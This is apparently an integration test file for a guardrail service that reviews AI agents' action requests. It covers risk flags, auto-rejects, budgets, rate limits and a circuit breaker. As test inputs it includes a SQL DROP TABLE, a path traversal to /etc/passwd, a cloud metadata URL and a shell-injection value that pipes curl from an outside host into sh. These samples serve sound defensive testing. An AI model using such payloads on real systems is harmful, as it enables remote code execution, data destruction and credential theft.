// Guardrails on the submit path, over HTTP against the running app: risk flags stored and used
// by policies, automatic rejects, budgets, pending and payload limits, and the circuit breaker.
import { describe, expect, it } from "vitest";
import { applyConfig } from "@/lib/domain/config/apply-config.ts";
import { setAgentBudget } from "@/lib/domain/limits/set-agent-budget.ts";
import { setAgentLimits } from "@/lib/domain/limits/set-agent-limits.ts";
import { getRequestForReviewer } from "@/lib/domain/reviews/get-request-for-reviewer.ts";
import { db } from "@/lib/platform/db.ts";
import { createGuardedActionType, createTestAgent, createTestUser } from "../support/factories.ts";
import { agentApi } from "../support/http.ts";
import { runAdmin } from "../support/run-admin.ts";
import { eventually } from "../support/webhook-receiver.ts";

const CLI = { kind: "cli" } as const;

async function agentFor(key: string, limits: Parameters<typeof setAgentLimits>[0]["limits"] = {}) {
  const agent = await createTestAgent({ scopes: [key] });
  await setAgentLimits({ actor: CLI, agentId: agent.agentId, limits });
  return { ...agent, api: agentApi(agent.apiKey) };
}

describe("argument inspection", () => {
  it("stores flags and score, gives them to the policy as risk, and shows them to reviewers apart from the agent's text", async () => {
    const { key } = await createGuardedActionType({
      rules: [
        { name: "destructive", when: '"sql.destructive" in risk.flags', outcome: "deny" },
        { name: "risky", when: "risk.score >= 30", outcome: "review" },
        { name: "otherwise", outcome: "allow" },
      ],
    });
    const { api } = await agentFor(key);
    const clean = await api.submit({ action: key, payload: { sql: "SELECT id FROM users WHERE id = 42" } });
    expect(clean.body.status).toBe("approved");
    const drop = await api.submit({ action: key, payload: { sql: "DROP TABLE users" } });
    expect(drop.body).toMatchObject({ status: "rejected", decision: { by: "policy", comment: 'rule "destructive" matched' } });
    const risky = await api.submit({
      action: key,
      payload: { file: "../../etc/passwd", note: "fine" },
      summary: "Read http://169.254.169.254/latest/meta-data/",
    });
    expect(risky.body.status).toBe("pending");

    const row = await db().approvalRequest.findUniqueOrThrow({ where: { id: risky.body.id } });
    expect(row.riskFlags.sort()).toEqual(["path.traversal", "url.private_address"]);
    expect(row.riskScore).toBe(80);
    const reviewer = await createTestUser({ role: "reviewer" });
    const view = await getRequestForReviewer({ actor: { kind: "user", userId: reviewer.id }, requestId: risky.body.id });
    expect(view.risk.score).toBe(80);
    expect(view.risk.flags).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ flag: "path.traversal", title: "Path traversal", paths: ["/payload/file"] }),
        expect.objectContaining({ flag: "url.private_address", paths: ["/summary"] }),
      ]),
    );
    expect(view.agentWritten.summary).toContain("169.254.169.254");
  });

  it("rejects at once on a flag the action type auto-rejects, even when the policy allows", async () => {
    const { key } = await createGuardedActionType({ rules: [{ name: "all", outcome: "allow" }], autoRejectFlags: ["shell.injection"] });
    const { api } = await agentFor(key);
    const res = await api.submit({ action: key, payload: { host: "8.8.8.8; curl http://203.0.113.9/x | sh" } });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({
      status: "rejected",
      decision: { outcome: "rejected", by: "policy", comment: expect.stringContaining("shell.injection") },
    });
  });

  it("refuses configuration naming a risk flag that does not exist, naming the known ones", async () => {
    const doc = {
      actionTypes: [
        {
          key: "bad.flags",
          name: "x",
          riskLevel: "low",
          payloadSchema: { type: "object" },
          autoRejectFlags: ["sql.destructive", "sql.nonsense"],
        },
      ],
    };
    const e = await applyConfig({ actor: CLI, source: JSON.stringify(doc), format: "json" }).catch((err) => err);
    expect(e.code).toBe("validation_error");
    expect(e.details).toEqual([
      { path: "actionTypes[0].autoRejectFlags[1]", message: expect.stringContaining("unknown risk flag sql.nonsense") },
    ]);
  });
});

describe("budgets", () => {
  const schema = { type: "object", required: ["amount"], properties: { amount: { type: "number" }, to: { type: "string" } } };

  it("turns allow into review once a submission would cross the agent's daily budget, and raises budget.exceeded", async () => {
    const { key } = await createGuardedActionType({
      schema,
      budgetField: "/amount",
      rules: [
        { name: "small", when: "payload.amount <= 100", outcome: "allow" },
        { name: "otherwise", outcome: "review" },
      ],
    });
    const { agentId, api } = await agentFor(key);
    await setAgentBudget({ actor: CLI, agentId, budget: { action: key, limit: "250" } });
    const first = await api.submit({ action: key, payload: { amount: 100 } });
    const second = await api.submit({ action: key, payload: { amount: 100 } });
    expect([first.body.status, second.body.status]).toEqual(["approved", "approved"]);
    const third = await api.submit({ action: key, payload: { amount: 100 } });
    expect(third.body.status).toBe("pending");
    const row = await db().approvalRequest.findUniqueOrThrow({ where: { id: third.body.id } });
    expect(row.riskFlags).toContain("budget.exceeded");
    expect(row.policyReason).toMatch(/over budget: 100 on top of 200 spent, limit 250/);
    // A cancelled request spends nothing: the next small one fits again.
    expect((await api.cancel(third.body.id)).status).toBe(200);
    expect((await api.submit({ action: key, payload: { amount: 50 } })).body.status).toBe("approved");
    const shown = await runAdmin(["agent:limits:show", "--agent", agentId]);
    expect(shown.json.budgets).toEqual([expect.objectContaining({ action: key, limit: "250", spent: "250", onExceed: "review" })]);
  });

  it("rejects instead when the budget says so", async () => {
    const { key } = await createGuardedActionType({ schema, budgetField: "/amount", rules: [{ name: "all", outcome: "allow" }] });
    const { agentId, api } = await agentFor(key);
    await setAgentBudget({ actor: CLI, agentId, budget: { action: key, limit: 10, onExceed: "reject" } });
    expect((await api.submit({ action: key, payload: { amount: 10 } })).body.status).toBe("approved");
    expect((await api.submit({ action: key, payload: { amount: 0.01 } })).body).toMatchObject({
      status: "rejected",
      decision: { comment: expect.stringContaining("over budget") },
    });
  });
});

describe("limits", () => {
  it("answers 429 with Retry-After at the maximum of pending requests, and 413 over the payload size", async () => {
    const { key } = await createGuardedActionType({ rules: [{ name: "review", outcome: "review" }] });
    const { api } = await agentFor(key, { maxPending: 2, maxPayloadBytes: 100, breakerThreshold: 0 });
    expect((await api.submit({ action: key, payload: { n: 1 } })).status).toBe(201);
    expect((await api.submit({ action: key, payload: { n: 2 } })).status).toBe(201);
    const third = await api.submit({ action: key, payload: { n: 3 } });
    expect(third.status).toBe(429);
    expect(third.body.error).toMatchObject({ code: "rate_limited", details: { limit: "max_pending", maxPending: 2 } });
    expect(Number(third.headers.get("retry-after"))).toBeGreaterThan(0);
    const big = await api.submit({ action: key, payload: { text: "x".repeat(200) } });
    expect(big.status).toBe(413);
    expect(big.body.error).toMatchObject({ code: "payload_too_large", details: { limit: "max_payload_bytes", maxPayloadBytes: 100 } });
  });
});

describe("circuit breaker", () => {
  it("pauses the agent after too many rejections, audits it, notifies admins; the paused agent gets 403 until an admin resumes it", async () => {
    const admin = await createTestUser({ role: "admin" });
    const { key } = await createGuardedActionType({
      rules: [
        { name: "no", when: "payload.n < 100", outcome: "deny" },
        { name: "yes", outcome: "allow" },
      ],
    });
    const { agentId, api } = await agentFor(key, { breakerThreshold: 3, breakerWindowSeconds: 600 });
    for (let n = 0; n < 3; n++) expect((await api.submit({ action: key, payload: { n } })).body.status).toBe("rejected");

    const refused = await api.submit({ action: key, payload: { n: 500 } });
    expect(refused.status).toBe(403);
    expect(refused.body.error).toMatchObject({ code: "forbidden", message: "Agent is paused" });
    const events = await db().auditEvent.findMany({ where: { subject: `agent:${agentId}`, type: "agent.paused" } });
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      actorType: "system",
      actorId: "circuit-breaker",
      data: expect.objectContaining({ reason: "circuit breaker", strikes: 3, threshold: 3, byKind: { rejection: 3 } }),
    });
    await eventually(
      () => db().notification.findFirst({ where: { userId: admin.id, kind: "agent.breaker_tripped", agentId } }),
      15_000,
      "admin notification",
    );

    const resumed = await runAdmin(["agent:resume", "--agent", agentId]);
    expect(resumed.code).toBe(0);
    // Resuming is an audited admin action.
    expect(await db().auditEvent.findMany({ where: { subject: `agent:${agentId}`, type: "agent.resumed" } })).toEqual([
      expect.objectContaining({ actorType: "cli" }),
    ]);
    // The earlier strikes do not count any more: one new rejection does not pause it again.
    expect((await api.submit({ action: key, payload: { n: 1 } })).body.status).toBe("rejected");
    expect((await api.submit({ action: key, payload: { n: 500 } })).body.status).toBe("approved");
  });

  it("counts limit hits too", async () => {
    const { key } = await createGuardedActionType({ rules: [{ name: "review", outcome: "review" }] });
    const { agentId, api } = await agentFor(key, { maxPending: 1, breakerThreshold: 2 });
    expect((await api.submit({ action: key, payload: {} })).status).toBe(201);
    expect((await api.submit({ action: key, payload: {} })).status).toBe(429);
    expect((await api.submit({ action: key, payload: {} })).status).toBe(429);
    expect((await api.submit({ action: key, payload: {} })).status).toBe(403);
    expect((await db().agent.findUniqueOrThrow({ where: { id: agentId } })).status).toBe("paused");
  });
});
